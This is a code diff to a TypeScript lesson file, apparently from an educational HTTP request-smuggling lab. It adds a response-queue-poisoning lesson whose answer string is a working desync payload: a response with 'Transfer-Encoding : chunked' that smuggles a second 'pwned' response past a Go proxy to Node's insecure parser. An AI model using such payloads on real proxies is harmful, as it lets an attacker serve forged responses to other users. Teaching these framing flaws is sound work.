@@ -7,7 +7,7 @@
 import { analyze } from '../analysis.ts';
 import { latin1Bytes } from '../bytes.ts';
 import type { ErrorInfo } from '../types.ts';
-import type { ChainResult, Forwarding } from './chain.ts';
+import type { ChainResult, Direction, Forwarding } from './chain.ts';
 
 /** What a lesson asks for. */
 export type GoalKind =
@@ -18,7 +18,9 @@ export type GoalKind =
   /** The front end forwards a request with both Content-Length and Transfer-Encoding, and the back end frames it alike. */
   | 'both-framings-agree'
   /** The front end forwards a request and the back end refuses it, for the lesson's reason (no pair desyncs on the trick). */
-  | 'back-refuses';
+  | 'back-refuses'
+  /** Responses: the back end reads a whole response the front end did not forward as one, and answers the next client's request with it. */
+  | 'poison-response-queue';
 
 export interface Lesson {
   id: string;
@@ -32,6 +34,8 @@ export interface Lesson {
   front: string;
   back: string;
   forwarding: Forwarding;
+  /** What the input is: requests a client sends (the default), or responses an origin sends back through the pair. */
+  direction?: Direction;
   goal: GoalKind;
   /** The goal in words. */
   goalText: string;
@@ -54,6 +58,8 @@ const POST = 'POST /search HTTP/1.1\r\nHost: shop.example\r\n';
 const CHUNKS_THEN_SMUGGLED = '0\r\n\r\n' + SMUGGLED;
 /** The unfinished request of the poisoning lesson: the victim's request line becomes the value of X. */
 const PREFIX = 'GET /admin HTTP/1.1\r\nX:';
+/** The response lesson's body: an empty chunked body, then a response of its own (54 bytes). */
+const CHUNKS_THEN_RESPONSE = '0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\npwned';
 const RFC9112 = 'https://www.rfc-editor.org/rfc/rfc9112';
 const RFC9110 = 'https://www.rfc-editor.org/rfc/rfc9110';
 /** A chunked body of one 5-byte chunk whose size line is `size`, then the last chunk. */
@@ -65,6 +71,8 @@ const GOAL_TEXT: Record<GoalKind, string> = {
   'both-framings-agree':
     'Send a request with both Content-Length and Transfer-Encoding that the front end forwards; watch how the back end frames it.',
   'back-refuses': 'Make the front end forward a request that the back end refuses, and find which parser refuses it and at which byte.',
+  'poison-response-queue':
+    'Make the back end read a whole second response that the front end did not forward as one, so that the next client’s request is answered with it.',
 };
 
 function lesson(l: Omit<Lesson, 'goalText'>): Lesson {
@@ -304,13 +312,38 @@ export const LESSONS: readonly Lesson[] = [
       'Go’s server skips the extension and forwards the request with its 5-byte body; llhttp refuses the value and stops one byte after the @, at upstream byte 82. Both end the size line at the same CRLF, so a refusal is the worst that happens.',
     backRefusal: /chunk extension/i,
   }),
+  lesson({
+    id: 'response-te-space',
+    title: 'A response-side desync: Transfer-Encoding hidden from the proxy',
+    rule: 'RFC 9112 5.1: no whitespace is allowed between the field name and the colon; a proxy must remove it from a response before forwarding, a client must not accept it (RFC 9112 6.3: Transfer-Encoding overrides Content-Length).',
+    rfcUrl: `${RFC9112}#section-5.1`,
+    explanation:
+      'Responses are framed by the same rules as requests, and a proxy that reads an origin’s response shorter or longer than the next hop does leaves bytes on a reused connection: the next hop reads them as the answer to the next request it sends, whoever sent it (response queue poisoning). The input here is what an origin sends (an application that lets a user set a response header is enough). The front end reads it with Go’s http.ReadResponse, which keeps "Transfer-Encoding " (with the space) as a field of another name and frames by Content-Length; it splices the bytes on (raw forwarding: Go’s own ReverseProxy re-serializes instead, which ends the desync). The back end is Node with --insecure-http-parser reading responses (llhttp insecure), which drops the space and decodes chunked.',
+    front: 'go',
+    back: 'llhttp-insecure',
+    forwarding: 'raw',
+    direction: 'response',
+    goal: 'poison-response-queue',
+    start: 'HTTP/1.1 200 OK\r\n' + `Content-Length: ${CHUNKS_THEN_RESPONSE.length}\r\nTransfer-Encoding: chunked\r\n\r\n` + CHUNKS_THEN_RESPONSE,
+    answer: 'HTTP/1.1 200 OK\r\n' + `Content-Length: ${CHUNKS_THEN_RESPONSE.length}\r\nTransfer-Encoding : chunked\r\n\r\n` + CHUNKS_THEN_RESPONSE,
+    afterword:
+      'Go reads one response with a 48-byte body and forwards it; llhttp reads an empty chunked body, then a second response ("pwned") that Go never forwarded as one. The next request on the back end’s connection, another client’s, is answered with it, and that client’s own response waits for the one after. (Node’s client drops a response that comes while no request waits, so in practice the origin sends the second response late, once the next request is on the connection; tried with Node 20 and insecureHTTPParser.) Without the space both let chunked win and read the same two responses.',
+  }),
 ];
 
 /** Whether a chain result meets a lesson's goal. */
 export function goalMet(lesson: Pick<Lesson, 'goal' | 'backRefusal'>, result: ChainResult): boolean {
   switch (lesson.goal) {
     case 'hidden-request':
-      return result.verdict === 'desync' && result.desync !== null && result.desync.hidden.some((r) => r.complete);
+      return result.direction === 'request' && result.verdict === 'desync' && result.desync !== null && result.desync.hidden.some((r) => r.complete);
+    case 'poison-response-queue':
+      return (
+        result.direction === 'response' &&
+        result.verdict === 'desync' &&
+        result.desync !== null &&
+        result.desync.hidden.some((r) => r.complete) &&
+        result.desync.victim.outcome === 'poisoned'
+      );
     case 'poison-victim':
       return result.verdict === 'desync' && result.desync?.victim.outcome === 'poisoned';
     case 'both-framings-agree':
@@ -334,9 +367,9 @@ export function goalMet(lesson: Pick<Lesson, 'goal' | 'backRefusal'>, result: Ch
   }
 }
 
-/** Why strict httpspan refuses `bytes` (the error with its byte), or null when it accepts them. */
-export function strictRefusal(bytes: Uint8Array): ErrorInfo | null {
-  return analyze(bytes, { mode: 'request', requestMethod: 'GET', lenient: [] }).error;
+/** Why strict httpspan refuses `bytes` (requests, or responses to GET) with the error and its byte, or null when it accepts them. */
+export function strictRefusal(bytes: Uint8Array, direction: Direction = 'request'): ErrorInfo | null {
+  return analyze(bytes, { mode: direction, requestMethod: 'GET', lenient: [] }).error;
 }
 
 export function lessonById(id: string): Lesson | undefined {
